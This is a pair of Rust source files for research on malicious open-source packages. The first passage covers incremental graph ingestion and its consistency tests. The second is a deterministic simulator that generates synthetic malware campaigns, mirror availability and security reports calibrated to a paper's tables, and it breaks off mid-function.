        // node ids, so the node table stays positionally identical to a
        // one-shot build over the union.
        {
            let _stage = obs::span!("ingest/delta/nodes");
            build::emit_package_nodes(
                &mut self.graph,
                &mut self.primary,
                &mut state.nodes_by_pkg,
                &state.dataset.packages[from_pkg..],
            );
            obs::counter_add(
                "ingest.nodes_added",
                (self.graph.node_count() - from_node) as u64,
            );
        }
        crash.fire("build/nodes")?;

        // 2. Re-emit every edge stage over the union, in build order —
        // dependency and co-existing edges between old nodes can appear
        // when new packages resolve old dependency names or old report
        // members, so the cheap stages always recompute; only the
        // similarity stage is served from the memo.
        {
            let _stage = obs::span!("ingest/delta/edges");
            self.graph.clear_edges();
            let duplicated = build::emit_duplicated_edges(&mut self.graph, &state.nodes_by_pkg);
            crash.fire("build/duplicated")?;
            let dependency =
                build::emit_dependency_edges(&mut self.graph, &self.primary, &state.dataset.packages);
            crash.fire("build/dependency")?;
            let jobs = build::similarity_jobs(&state.dataset.packages);
            let mut outputs: Vec<Arc<SimilarityOutput>> = Vec::with_capacity(jobs.len());
            for (eco, entries) in &jobs {
                let slot = Ecosystem::ALL
                    .iter()
                    .position(|e| e == eco)
                    .expect("ecosystem listed in ALL");
                let memo = &mut state.eco[slot];
                let output = match &memo.output {
                    Some(cached) if memo.entries_len == entries.len() => {
                        obs::counter_add("ingest.similarity_reused", 1);
                        Arc::clone(cached)
                    }
                    _ => {
                        obs::counter_add("ingest.similarity_recomputed", 1);
                        let _sim =
                            obs::span!("ingest/delta/similar/ecosystem={}", eco.display_name());
                        let output = Arc::new(similar_pairs_cached(
                            entries,
                            &options.similarity,
                            &mut memo.cache,
                        ));
                        memo.entries_len = entries.len();
                        memo.output = Some(Arc::clone(&output));
                        // The similarity-cache publish boundary: the
                        // memo now holds an output the graph does not
                        // carry yet.
                        crash.fire("similar/publish")?;
                        output
                    }
                };
                outputs.push(output);
            }
            let (diagnostics, similar) =
                build::apply_similarity_outputs(&mut self.graph, &self.primary, &jobs, outputs);
            self.similarity_diagnostics = diagnostics;
            crash.fire("build/similar")?;
            let coexisting =
                build::emit_coexisting_edges(&mut self.graph, &self.primary, &state.dataset.reports);
            crash.fire("build/coexisting")?;
            obs::counter_add("ingest.edges_emitted{relation=duplicated}", duplicated);
            obs::counter_add("ingest.edges_emitted{relation=dependency}", dependency);
            obs::counter_add("ingest.edges_emitted{relation=similar}", similar);
            obs::counter_add("ingest.edges_emitted{relation=coexisting}", coexisting);
        }

        // 3. Invalidate or extend the lazy query caches.
        {
            let _stage = obs::span!("ingest/delta/invalidate");
            let dup_slot = relation_slot(Relation::Duplicated);
            // Component indexes: the Duplicated forest is append-only
            // under ingestion, so it is extended and parked for the next
            // index build to re-adopt; the other relations are dropped.
            let carry = self.dup_carry.get_mut().expect("carry lock poisoned");
            let mut duplicated_index = match self.indexes.take() {
                Some(mut indexes) => {
                    obs::counter_add(
                        "ingest.invalidated{cache=components}",
                        (Relation::ALL.len() - 1) as u64,
                    );
                    Some(indexes.swap_remove(dup_slot))
                }
                None => carry.take(),
            };
            if let Some(index) = duplicated_index.as_mut() {
                index.extend(
                    &self.graph,
                    |l| *l == Relation::Duplicated,
                    index.node_watermark(),
                );
                obs::counter_add("ingest.extended{cache=components}", 1);
            }
            *carry = duplicated_index;
            // Adjacency CSRs: same split, per relation.
            for (slot, relation) in Relation::ALL.iter().enumerate() {
                if *relation == Relation::Duplicated {
                    if let Some(mut adjacency) = self.adjacency[slot].take() {
                        adjacency.extend(
                            &self.graph,
                            |l| *l == Relation::Duplicated,
                            adjacency.node_watermark(),
                        );
                        self.adjacency[slot]
                            .set(adjacency)
                            .expect("no concurrent init while holding &mut self");
                        obs::counter_add("ingest.extended{cache=adjacency}", 1);
                    }
                } else if self.adjacency[slot].take().is_some() {
                    obs::counter_add("ingest.invalidated{cache=adjacency}", 1);
                }
            }
            if self.stats.take().is_some() {
                obs::counter_add("ingest.invalidated{cache=stats}", 1);
            }
            if self.analysis.take().is_some() {
                obs::counter_add("ingest.invalidated{cache=analysis}", 1);
            }
        }
        state.windows += 1;
        crash.fire("ingest/apply")?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::build::build;
    use crawler::{collect, partition_windows};
    use registry_sim::{WindowPlan, World, WorldConfig};

    fn graph_signature(
        graph: &MalGraph,
    ) -> (Vec<crate::node::MalNode>, Vec<(usize, usize, Relation)>) {
        let nodes = graph.graph.nodes().map(|(_, n)| n.clone()).collect();
        let edges = graph
            .graph
            .edges()
            .map(|e| (e.from.index(), e.to.index(), e.label))
            .collect();
        (nodes, edges)
    }

    #[test]
    fn windowed_ingest_matches_one_shot_build() {
        let world = World::generate(WorldConfig::small(19));
        let dataset = collect(&world);
        let plan = WindowPlan::disclosure_quantiles(&world, 4);
        let deltas = partition_windows(&dataset, &plan);
        let union = crawler::union_dataset(&deltas);
        let options = BuildOptions::default();
        let oracle = build(&union, &options);

        let mut graph = MalGraph::empty();
        let mut state = IngestState::new();
        for delta in &deltas {
            graph.apply_delta(delta, &options, &mut state);
        }
        assert_eq!(state.windows_applied(), deltas.len());
        assert_eq!(state.dataset().packages, union.packages);
        assert_eq!(state.dataset().reports, union.reports);
        assert_eq!(graph_signature(&graph), graph_signature(&oracle));
        assert_eq!(
            graph.similarity_diagnostics.len(),
            oracle.similarity_diagnostics.len()
        );
        for ((eco_a, out_a), (eco_b, out_b)) in graph
            .similarity_diagnostics
            .iter()
            .zip(&oracle.similarity_diagnostics)
        {
            assert_eq!(eco_a, eco_b);
            assert_eq!(out_a.pairs, out_b.pairs);
            assert_eq!(out_a.chosen_k, out_b.chosen_k);
        }
        // Queries served from the (partly extended, partly rebuilt)
        // caches match the oracle's.
        for relation in Relation::ALL {
            assert_eq!(graph.groups(relation), oracle.groups(relation));
            assert_eq!(graph.relation_stats(relation), oracle.relation_stats(relation));
        }
    }

    #[test]
    fn caches_forced_between_deltas_never_serve_stale_answers() {
        let world = World::generate(WorldConfig::small(23));
        let dataset = collect(&world);
        let plan = WindowPlan::disclosure_quantiles(&world, 3);
        let deltas = partition_windows(&dataset, &plan);
        let options = BuildOptions::default();

        let mut graph = MalGraph::empty();
        let mut state = IngestState::new();
        for (i, delta) in deltas.iter().enumerate() {
            graph.apply_delta(delta, &options, &mut state);
            // Force every cache between windows: group + adjacency +
            // stats + analysis queries populate all the `OnceLock`s,
            // which the next delta must extend or drop.
            for relation in Relation::ALL {
                let _ = graph.groups(relation);
                let _ = graph.adjacency(relation);
                let _ = graph.relation_stats(relation);
            }
            let _ = graph.analysis_index(state.dataset());
            // Compare against a fresh one-shot build over the union so
            // far — any stale cache shows up immediately.
            let union = crawler::union_dataset(&deltas[..=i]);
            let oracle = build(&union, &options);
            for relation in Relation::ALL {
                assert_eq!(
                    graph.groups(relation),
                    oracle.groups(relation),
                    "stale components after window {i}"
                );
                assert_eq!(
                    graph.relation_stats(relation),
                    oracle.relation_stats(relation),
                    "stale stats after window {i}"
                );
                for id in graph.graph.node_ids() {
                    assert_eq!(
                        graph.adjacency(relation).neighbors(id),
                        oracle.adjacency(relation).neighbors(id),
                        "stale adjacency after window {i}"
                    );
                }
            }
        }
    }

    #[test]
    fn single_delta_equals_one_shot_build() {
        let world = World::generate(WorldConfig::small(29));
        let dataset = collect(&world);
        let plan = WindowPlan::equal_span(SimTime::from_minutes(0), world.config.collect_time, 1);
        let deltas = partition_windows(&dataset, &plan);
        assert_eq!(deltas.len(), 1);
        let options = BuildOptions::default();
        let oracle = build(&crawler::union_dataset(&deltas), &options);
        let mut graph = MalGraph::empty();
        let mut state = IngestState::new();
        graph.apply_delta(&deltas[0], &options, &mut state);
        assert_eq!(graph_signature(&graph), graph_signature(&oracle));
    }
}
