//! World generation: assembling campaigns, mentions, mirrors and reports
//! into one deterministic simulated "wild".

use crate::calibration::{self, mention_blocks};
use crate::campaign::{Campaign, CampaignKind, CampaignPlan};
use crate::config::WorldConfig;
use crate::mirror::MirrorFleet;
use crate::names::NameGenerator;
use crate::package::{CampaignIdx, PkgIdx, SimPackage, UnavailCause};
use crate::report::{ReportCategory, SecurityReport, Website};
use minilang::gen::Behavior;
use oss_types::{
    ActorId, Ecosystem, PackageName, SimDuration, SimTime, SourceId,
};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rand_distr::{Distribution, LogNormal};
use std::collections::HashMap;

/// One source naming one package — a row of the collected corpus.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Mention {
    /// The package named.
    pub package: PkgIdx,
    /// The online source naming it.
    pub source: SourceId,
    /// When the source disclosed it.
    pub disclosed: SimTime,
}

/// The fully generated simulated world.
#[derive(Debug, Clone)]
pub struct World {
    /// Generation configuration.
    pub config: WorldConfig,
    /// Every package ever released (including trojan versions that were
    /// never judged malicious).
    pub packages: Vec<SimPackage>,
    /// Ground-truth campaign records.
    pub campaigns: Vec<Campaign>,
    /// Source mentions — who reported what.
    pub mentions: Vec<Mention>,
    /// Report-publishing websites (Table III).
    pub websites: Vec<Website>,
    /// Security reports (co-existing evidence).
    pub reports: Vec<SecurityReport>,
    /// The mirror fleet.
    pub mirrors: MirrorFleet,
}

impl World {
    /// Generates a world from `config`. Deterministic in `config.seed`.
    pub fn generate(config: WorldConfig) -> World {
        let _span = obs::span!("world/generate");
        let world = Builder::new(config).build();
        obs::counter_add("world.generated", 1);
        obs::gauge_set("world.packages", world.packages.len() as f64);
        obs::gauge_set("world.campaigns", world.campaigns.len() as f64);
        obs::gauge_set("world.mentions", world.mentions.len() as f64);
        obs::gauge_set("world.reports", world.reports.len() as f64);
        obs::gauge_set("world.mirrors", world.mirrors.len() as f64);
        world
    }

    /// The package record behind an index.
    ///
    /// # Panics
    ///
    /// Panics if the index is out of range.
    pub fn package(&self, idx: PkgIdx) -> &SimPackage {
        &self.packages[idx.index()]
    }

    /// Indices of packages the registry judged malicious (removed) and
    /// released before collection time — the population the ten sources
    /// draw from.
    pub fn dataset_candidates(&self) -> Vec<PkgIdx> {
        self.packages
            .iter()
            .enumerate()
            .filter(|(_, p)| p.removed.is_some() && p.released <= self.config.collect_time)
            .map(|(i, _)| PkgIdx(i as u32))
            .collect()
    }

    /// Every release of `name` in `eco`, in version order — the registry
    /// version-history query the evolution analysis uses for trojans.
    pub fn version_history(&self, eco: Ecosystem, name: &PackageName) -> Vec<PkgIdx> {
        let mut hits: Vec<PkgIdx> = self
            .packages
            .iter()
            .enumerate()
            .filter(|(_, p)| p.id.ecosystem() == eco && p.id.name() == name)
            .map(|(i, _)| PkgIdx(i as u32))
            .collect();
        hits.sort_by(|a, b| {
            self.packages[a.index()]
                .id
                .version()
                .cmp(self.packages[b.index()].id.version())
        });
        hits
    }

    /// Ground-truth campaign of a package, if any.
    pub fn campaign_of(&self, idx: PkgIdx) -> Option<&Campaign> {
        self.packages[idx.index()]
            .campaign
            .map(|c| &self.campaigns[c.index()])
    }
}

struct Builder {
    config: WorldConfig,
    rng: StdRng,
    names: NameGenerator,
    packages: Vec<SimPackage>,
    campaigns: Vec<Campaign>,
    actor_counter: u32,
    showcase: Option<CampaignIdx>,
}

impl Builder {
    fn new(config: WorldConfig) -> Builder {
        Builder {
            rng: StdRng::seed_from_u64(config.seed),
            names: NameGenerator::new(1),
            config,
            packages: Vec::new(),
            campaigns: Vec::new(),
            actor_counter: 0,
            showcase: None,
        }
    }

    fn build(mut self) -> World {
        let blocks = {
            let mut blocks = mention_blocks(self.config.scale);
            blocks.shuffle(&mut self.rng);
            blocks
        };
        let distinct_total = blocks.len();

        // 1. Campaigns (SG / DeG / trojans / the Fig-8 showcase).
        self.plan_and_materialize_campaigns(distinct_total);

        // 2. Loners fill the remaining mention budget.
        let dataset_count = self
            .packages
            .iter()
            .filter(|p| p.removed.is_some() && p.released <= self.config.collect_time)
            .count();
        let loners_needed = distinct_total.saturating_sub(dataset_count);
        self.generate_loners(loners_needed);

        // 3. Mirror availability.
        let mirrors = MirrorFleet::paper_fleet(self.config.mirror_retention_days);
        self.availability_pass(&mirrors);

        // 4. Mentions: assign blocks to dataset packages.
        let mentions = self.assign_mentions(blocks);

        // 5. Reports & websites.
        let (websites, reports) = self.generate_reports(&mentions);

        World {
            config: self.config,
            packages: self.packages,
            campaigns: self.campaigns,
            mentions,
            websites,
            reports,
            mirrors,
        }
    }

    fn next_actor(&mut self) -> ActorId {
        let id = ActorId::new(self.actor_counter);
        self.actor_counter += 1;
        id
    }

    fn sample_start(&mut self) -> SimTime {
        let total: f64 = calibration::YEAR_WEIGHTS.iter().map(|(_, w)| w).sum();
        let mut target = self.rng.gen_range(0.0..total);
        let mut year = calibration::YEAR_WEIGHTS[0].0;
        for &(y, w) in &calibration::YEAR_WEIGHTS {
            year = y;
            if target < w {
                break;
            }
            target -= w;
        }
        let day = self.rng.gen_range(0..360);
        SimTime::from_ymd(year, 1, 1) + SimDuration::days(day)
    }

    /// Uniform start instant within `[from_year, to_year]`.
    fn sample_start_window(&mut self, from_year: i32, to_year: i32) -> SimTime {
        let years = (to_year - from_year + 1) as u64;
        let day = self.rng.gen_range(0..years * 360);
        SimTime::from_ymd(from_year, 1, 1) + SimDuration::days(day)
    }

    fn random_behavior(&mut self) -> Behavior {
        *Behavior::ALL.choose(&mut self.rng).expect("non-empty")
    }

    fn plan_and_materialize_campaigns(&mut self, distinct_total: usize) {
        let scale = self.config.scale;
        let scaled = |n: f64| -> usize { (n * scale).round() as usize };

        // Similar (SG) campaigns per ecosystem, Table VII targets.
        for eco in Ecosystem::MAJOR {
            if let Some((groups, mean_size)) = calibration::sg_targets(eco) {
                let n_groups = scaled(groups as f64).max(1);
                // Table VII's SG sizes are measured over *available*
                // packages; roughly 60% of a campaign's members are lost
                // to mirrors, so generation compensates upward.
                const AVAILABILITY_COMPENSATION: f64 = 2.2;
                let total_pkgs =
                    scaled(groups as f64 * mean_size * AVAILABILITY_COMPENSATION)
                        .max(n_groups * 2);
                // Cap campaign output so mentions can cover every package.
                let total_pkgs = total_pkgs.min(distinct_total / 2);
                self.plan_similar_family(eco, n_groups, total_pkgs);
            }
        }
        // Dependency (DeG) campaigns.
        for eco in Ecosystem::MAJOR {
            if let Some((groups, mean_size)) = calibration::deg_targets(eco) {
                let n_groups = scaled(groups as f64).max(1);
                for _ in 0..n_groups {
                    let attempts = (mean_size.round() as usize).clamp(2, 3);
                    let actor = self.next_actor();
                    // DeG campaigns start in 2021–2022: the library sits
                    // dormant for a long time, and the fronts (arriving
                    // ~1.5 years later) land inside the mirrors' retention
                    // window — which is why the paper could observe them.
                    let start = self.sample_start_window(2021, 2022);
                    let behavior = self.random_behavior();
                    let collect = self.config.collect_time;
                    let window_lo =
                        SimTime::from_minutes(collect.as_minutes().saturating_sub(200 * 1440));
                    let window_hi =
                        SimTime::from_minutes(collect.as_minutes().saturating_sub(30 * 1440));
                    self.materialize_plan(CampaignPlan {
                        kind: CampaignKind::Dependency,
                        ecosystem: eco,
                        behavior,
                        actor,
                        start,
                        attempts,
                        // DeG campaigns have the longest active periods
                        // (Fig. 9): fronts arrive months-to-years later,
                        // shortly before collection (survivorship: these
                        // are the DeG campaigns a collector can observe).
                        mean_gap: SimDuration::days(550),
                        mean_persistence_hours: self.config.admin_detection_mean_hours,
                        mega_popularity: false,
                        front_release_window: Some((window_lo, window_hi)),
                    });
                }
            }
        }
        // Trojan campaigns → Fig. 11 outliers / Table VIII rows.
        let n_trojans = scaled(25.0).max(3);
        for i in 0..n_trojans {
            let eco = if i % 2 == 0 { Ecosystem::Npm } else { Ecosystem::PyPI };
            let actor = self.next_actor();
            // The flagship popular-package hijack starts early enough in
            // 2022 that its malicious versions land inside the corpus.
            let start = if i == 0 {
                self.sample_start_window(2022, 2022)
            } else {
                self.sample_start()
            };
            let behavior = self.random_behavior();
            let attempts = self.rng.gen_range(4..=7);
            self.materialize_plan(CampaignPlan {
                kind: CampaignKind::Trojan,
                ecosystem: eco,
                behavior,
                actor,
                start,
                attempts,
                mean_gap: SimDuration::days(45),
                mean_persistence_hours: self.config.admin_detection_mean_hours,
                // The first trojan hijacks a genuinely popular package —
                // every corpus snapshot has its Table VIII outlier.
                mega_popularity: i == 0,
                front_release_window: None,
            });
        }
        // The Fig-8 showcase: a 15-package npm campaign in August 2023.
        self.materialize_showcase();
    }

    /// Plans one ecosystem's family of similar campaigns: sizes are
    /// heavy-tailed (log-normal) and PyPI additionally gets one large
    /// registering-flood campaign (the 5,943-package attack, scaled).
    fn plan_similar_family(&mut self, eco: Ecosystem, n_groups: usize, total_pkgs: usize) {
        let mut sizes: Vec<usize> = Vec::with_capacity(n_groups);
        let mut remaining = total_pkgs;
        let flood = eco == Ecosystem::PyPI && total_pkgs >= 60;
        let ordinary_groups = if flood { n_groups.saturating_sub(1) } else { n_groups };
        // Ordinary campaigns stay small (the paper's SG active periods are
        // days–weeks); the flood absorbs the PyPI remainder, which is what
        // drives PyPI's huge mean group size in Table VII.
        // The flood takes a fixed share of the ecosystem's SG packages so
        // its weight in the corpus is scale-independent.
        let flood_size = if flood { (total_pkgs as f64 * 0.45) as usize } else { 0 };
        remaining = remaining.saturating_sub(flood_size);
        if ordinary_groups > 0 {
            let mean = (remaining as f64 / ordinary_groups as f64).clamp(2.0, 50.0);
            let ln = LogNormal::new(mean.ln().max(0.7), 0.7).expect("valid parameters");
            for i in 0..ordinary_groups {
                let left = ordinary_groups - i;
                let cap = remaining.saturating_sub((left - 1) * 2).clamp(2, 110);
                let s = (ln.sample(&mut self.rng) as usize).clamp(2, cap);
                sizes.push(s);
                remaining = remaining.saturating_sub(s);
            }
        }
        if flood {
            sizes.push(flood_size.max(30));
        }
        let flood_index = sizes.len().saturating_sub(1);
        // Some actors run several campaigns (the paper's Fig. 8 actor
        // published repeatedly); reports later bundle same-actor
        // campaigns into one disclosure cluster.
        let mut last_actor: Option<ActorId> = None;
        for (i, size) in sizes.into_iter().enumerate() {
            let actor = match last_actor {
                Some(prev) if self.rng.gen_bool(0.35) => prev,
                _ => self.next_actor(),
            };
            last_actor = Some(actor);
            let is_flood = flood && i == flood_index;
            // The registering-flood attack is a mid/late-2023 event in
            // the paper, and its packages were recovered from mirrors —
            // a flood buried outside the mirror-retention window would be
            // invisible to the collector and to Table VII, so the start
            // is drawn from the window the mirrors still cover at crawl
            // time (with margin for the campaign to finish and be
            // disclosed before the crawl).
            let start = if is_flood {
                let collect = self.config.collect_time.as_minutes();
                let retention_margin_days =
                    self.config.mirror_retention_days.saturating_sub(30).max(60);
                let lo = collect.saturating_sub(retention_margin_days * 1440);
                let hi = collect.saturating_sub(45 * 1440).max(lo + 1);
                SimTime::from_minutes(self.rng.gen_range(lo..hi))
            } else {
                self.sample_start()
            };
            let behavior = self.random_behavior();
            // SG campaigns are fast regardless of size (Fig. 9: "several
            // days"): the *campaign duration* is the target, and the
            // per-release gap follows from the attempt count.
            let gap = if is_flood {
                SimDuration::minutes(12)
            } else {
                let duration_days = self.rng.gen_range(2.0..12.0);
                let minutes = (duration_days * 1440.0 / size.max(2) as f64).max(8.0);
                SimDuration::minutes(minutes as u64)
            };
            self.materialize_plan(CampaignPlan {
                kind: if is_flood { CampaignKind::Flood } else { CampaignKind::Similar },
                ecosystem: eco,
                behavior,
                actor,
                start,
                attempts: size,
                mean_gap: gap,
                mega_popularity: false,
                mean_persistence_hours: self.config.admin_detection_mean_hours,
                front_release_window: None,
            });
        }
    }

    fn materialize_plan(&mut self, plan: CampaignPlan) {
        let idx = CampaignIdx(self.campaigns.len() as u32);
        let first_pkg = self.packages.len() as u32;
        let m = plan.materialize(idx, first_pkg, &mut self.names, &mut self.rng);
        self.campaigns.push(m.campaign);
        self.packages.extend(m.packages);
    }

    /// The example campaign of paper Fig. 8: 15 npm packages released
    /// between 2023-08-09 and 2023-08-19, five of them named in the text.
    fn materialize_showcase(&mut self) {
        const NAMED: [&str; 5] = [
            "cloud-layout",
            "urs-remote",
            "etc-crypto",
            "mh-web-hardware",
            "mall-front-babel-directive",
        ];
        let actor = self.next_actor();
        let idx = CampaignIdx(self.campaigns.len() as u32);
        self.showcase = Some(idx);
        let behavior = Behavior::ExfilEnv;
        let base = SimTime::from_ymd(2023, 8, 9);
        // Day offsets: 1 package on Aug 9, 6 on Aug 12, 8 over Aug 17–19.
        let offsets: [u64; 15] = [0, 3, 3, 3, 3, 3, 3, 8, 8, 8, 9, 9, 9, 10, 10];
        let mut module = minilang::gen::generate(behavior, &mut self.rng);
        let mut packages = Vec::new();
        let mut pkg_indices = Vec::new();
        for (attempt, &off) in offsets.iter().enumerate() {
            let name = if attempt < 10 {
                // 10 generator names, then the 5 named ones (the paper
                // says the named packages were published "most recently").
                self.names.fresh(&mut self.rng)
            } else {
                PackageName::new(NAMED[attempt - 10]).expect("paper names are valid")
            };
            if attempt > 0 && self.rng.gen_bool(0.4) {
                let m = *minilang::gen::Mutation::ALL.choose(&mut self.rng).expect("non-empty");
                module = minilang::gen::mutate(&module, m, &mut self.rng);
            }
            let released = base + SimDuration::days(off) + SimDuration::hours(attempt as u64);
            let persistence =
                crate::campaign::sample_persistence(self.config.admin_detection_mean_hours, &mut self.rng);
            let mut ops = oss_types::OpSet::empty();
            if attempt > 0 {
                ops.insert(oss_types::ChangeOp::ChangeName);
                ops.insert(oss_types::ChangeOp::ChangeCode);
            }
            let id = oss_types::PackageId::new(Ecosystem::Npm, name, oss_types::Version::default());
            let source_text = minilang::printer::print_module(&module);
            let description = "a lightweight helper library".to_string();
            let deps = Vec::new();
            let signature =
                crate::campaign::artifact_signature(&id, &description, &deps, &source_text);
            let dl = crate::downloads::ordinary_downloads(persistence.as_hours() as f64, &mut self.rng);
            pkg_indices.push(PkgIdx(self.packages.len() as u32 + packages.len() as u32));
            packages.push(SimPackage {
                id,
                description,
                dependencies: deps,
                source_text,
                signature,
                released,
                removed: Some(released + persistence),
                downloads: dl,
                campaign: Some(idx),
                attempt,
                actor,
                behavior: Some(behavior),
                ops_from_prev: ops,
                mirror_available: false,
                unavail_cause: None,
            });
        }
        self.campaigns.push(Campaign {
            idx,
            kind: CampaignKind::Similar,
            actor,
            ecosystem: Ecosystem::Npm,
            behavior,
            start: base,
            packages: pkg_indices,
            reported: false,
        });
        self.packages.extend(packages);
    }

    fn generate_loners(&mut self, count: usize) {
        // Ecosystem assignment by calibrated shares.
        for _ in 0..count {
            let eco = self.sample_ecosystem();
            let behavior = self.random_behavior();
            let actor = self.next_actor();
            let released = self.sample_start();
            let persistence = crate::campaign::sample_persistence(
                self.config.admin_detection_mean_hours,
                &mut self.rng,
            );
            let name = self.names.fresh(&mut self.rng);
            let module = minilang::gen::generate(behavior, &mut self.rng);
            let source_text = minilang::printer::print_module(&module);
            let description = "a simple utility library".to_string();
            let deps = Vec::new();
            let id = oss_types::PackageId::new(eco, name, oss_types::Version::default());
            let signature =
                crate::campaign::artifact_signature(&id, &description, &deps, &source_text);
            let dl =
                crate::downloads::ordinary_downloads(persistence.as_hours() as f64, &mut self.rng);
            self.packages.push(SimPackage {
                id,
                description,
                dependencies: deps,
                source_text,
                signature,
                released,
                removed: Some(released + persistence),
                downloads: dl,
                campaign: None,
                attempt: 0,
                actor,
                behavior: Some(behavior),
                ops_from_prev: oss_types::OpSet::empty(),
                mirror_available: false,
                unavail_cause: None,
            });
        }
    }

    fn sample_ecosystem(&mut self) -> Ecosystem {
        let total: f64 = calibration::ECOSYSTEM_SHARES.iter().map(|(_, s)| s).sum();
        let mut target = self.rng.gen_range(0.0..total);
        for &(eco, share) in &calibration::ECOSYSTEM_SHARES {
            if target < share {
                return eco;
            }
            target -= share;
        }
        Ecosystem::PyPI
    }

    fn availability_pass(&mut self, mirrors: &MirrorFleet) {
        let collect = self.config.collect_time;
        for pkg in &mut self.packages {
            let eco = pkg.id.ecosystem();
            if !eco.has_mirrors() {
                pkg.mirror_available = false;
                pkg.unavail_cause = Some(UnavailCause::NoMirrors);
                continue;
            }
            let captured = mirrors
                .for_ecosystem(eco)
                .filter_map(|m| m.capture_time(pkg.released, pkg.removed))
                .any(|t| t <= collect);
            if !captured {
                pkg.mirror_available = false;
                pkg.unavail_cause = Some(UnavailCause::PersistenceTooShort);
                continue;
            }
            if mirrors.any_holds(eco, pkg.released, pkg.removed, collect) {
                pkg.mirror_available = true;
                pkg.unavail_cause = None;
            } else {
                pkg.mirror_available = false;
                pkg.unavail_cause = Some(UnavailCause::ReleasedTooEarly);
            }
        }
    }

    /// Assigns mention blocks to dataset packages so that per-source
    /// missing rates approach Table VI: sources with high missing rates
    /// preferentially mention mirror-unavailable packages.
    fn assign_mentions(&mut self, blocks: Vec<Vec<SourceId>>) -> Vec<Mention> {
        let candidates: Vec<PkgIdx> = self
            .packages
            .iter()
            .enumerate()
            .filter(|(_, p)| p.removed.is_some() && p.released <= self.config.collect_time)
            .map(|(i, _)| PkgIdx(i as u32))
            .collect();

        // Pools keyed by (needs_pypi, mirror_available).
        let mut pools: HashMap<(bool, bool), Vec<PkgIdx>> = HashMap::new();
        for &idx in &candidates {
            let p = &self.packages[idx.index()];
            let key = (p.id.ecosystem() == Ecosystem::PyPI, p.mirror_available);
            pools.entry(key).or_default().push(idx);
        }
        // Fixed key order: HashMap iteration order would otherwise feed
        // the seeded RNG nondeterministically.
        for key in [(false, false), (false, true), (true, false), (true, true)] {
            if let Some(pool) = pools.get_mut(&key) {
                pool.shuffle(&mut self.rng);
            }
        }

        let mut take = |needs_pypi: bool, want_available: bool| -> Option<PkgIdx> {
            // Preference order: exact match, then relax availability,
            // then relax the ecosystem constraint (only when not
            // required).
            let orders: Vec<(bool, bool)> = if needs_pypi {
                vec![(true, want_available), (true, !want_available)]
            } else {
                vec![
                    (false, want_available),
                    (true, want_available),
                    (false, !want_available),
                    (true, !want_available),
                ]
            };
            for key in orders {
                if let Some(pool) = pools.get_mut(&key) {
                    if let Some(idx) = pool.pop() {
                        return Some(idx);
                    }
                }
            }
            None
        };

        let mut mentions = Vec::new();
        for block in blocks {
            let needs_pypi = block.contains(&SourceId::MalPyPI);
            let has_dump = block.iter().any(|s| {
                matches!(
                    s.publication_style(),
                    oss_types::source::PublicationStyle::DatasetDump
                )
            });
            // Want a mirror-recoverable package when the friendliest
            // source in the block has a low missing rate.
            let min_mr = block
                .iter()
                .map(|&s| calibration::single_missing_rate_pct(s))
                .fold(100.0f64, f64::min);
            let want_available = if has_dump {
                // Dump mentions are available regardless of mirrors; give
                // them whatever keeps the report-source pools balanced.
                self.rng.gen_bool(0.35)
            } else {
                self.rng.gen_bool(1.0 - min_mr / 100.0)
            };
            let Some(pkg) = take(needs_pypi, want_available) else {
                break; // candidate pool exhausted (tiny scales)
            };
            let removed = self.packages[pkg.index()]
                .removed
                .expect("dataset candidates are removed packages");
            for &source in &block {
                let lag_days = match source.publication_style() {
                    oss_types::source::PublicationStyle::DatasetDump => {
                        self.rng.gen_range(30..180)
                    }
                    _ => self.rng.gen_range(0..7),
                };
                // Sources publish in batches at their documented cadence
                // (Table V): the disclosure lands on the source's next
                // update tick after the find, and "never update" sources
                // batch roughly annually. The collector only sees batches
                // published before the crawl.
                let raw = removed + SimDuration::days(lag_days);
                let quantum = SimDuration::days(source.update_interval_days().unwrap_or(365));
                let tick = raw.as_minutes().div_ceil(quantum.as_minutes().max(1));
                let disclosed = SimTime::from_minutes(tick * quantum.as_minutes())
                    .min(self.config.collect_time);
                mentions.push(Mention {
                    package: pkg,
                    source,
                    disclosed,
                });
            }
        }
        mentions
    }

    fn generate_reports(&mut self, mentions: &[Mention]) -> (Vec<Website>, Vec<SecurityReport>) {
        let scale = self.config.scale;
        // Websites per Table III.
        let mut websites = Vec::new();
        let categories = [
            (ReportCategory::TechnicalCommunity, 16usize, 516usize),
            (ReportCategory::Commercial, 15, 545),
            (ReportCategory::News, 4, 143),
            (ReportCategory::Individual, 3, 95),
            (ReportCategory::Official, 1, 24),
            (ReportCategory::Other, 29, 43),
        ];
        let mut site_by_cat: HashMap<ReportCategory, Vec<usize>> = HashMap::new();
        for &(cat, sites, _) in &categories {
            let n = ((sites as f64 * scale).round() as usize).max(1);
            for i in 0..n {
                site_by_cat.entry(cat).or_default().push(websites.len());
                websites.push(Website {
                    name: format!("{}-{:02}.example", slug(cat), i),
                    category: cat,
                });
            }
        }
        let mentioned: std::collections::HashSet<PkgIdx> =
            mentions.iter().map(|m| m.package).collect();

        let mut reports: Vec<SecurityReport> = Vec::new();
        let mut report_id = 0u32;
        let pick_site = |rng: &mut StdRng| -> usize {
            // Report volume is dominated by community + commercial sites.
            let weights = [
                (ReportCategory::TechnicalCommunity, 516.0),
                (ReportCategory::Commercial, 545.0),
                (ReportCategory::News, 143.0),
                (ReportCategory::Individual, 95.0),
                (ReportCategory::Official, 24.0),
                (ReportCategory::Other, 43.0),
            ];
            let total: f64 = weights.iter().map(|(_, w)| w).sum();
            let mut target = rng.gen_range(0.0..total);
            let mut chosen = ReportCategory::Other;
            for &(cat, w) in &weights {
                chosen = cat;
                if target < w {
                    break;
                }
                target -= w;
            }
            *site_by_cat[&chosen]
                .choose(rng)
                .expect("every category has at least one site")
        };

        // The Fig-8 showcase campaign always gets a dedicated report
        // cluster of its own, so its CG component is exactly the campaign
        // and the reconstructed timeline matches the paper's figure.
        if let Some(show_idx) = self.showcase {
            let mut pkgs: Vec<PkgIdx> = self.campaigns[show_idx.index()]
                .packages
                .iter()
                .copied()
                .filter(|p| mentioned.contains(p))
                .collect();
            pkgs.sort_by_key(|p| self.packages[p.index()].released);
            if pkgs.len() >= 2 {
                let actor = self.campaigns[show_idx.index()].actor;
                self.campaigns[show_idx.index()].reported = true;
                let mut start = 0usize;
                while start < pkgs.len() {
                    let len = self.rng.gen_range(5..=8).min(pkgs.len() - start);
                    let end = start + len;
                    let overlap_from = start.saturating_sub(1);
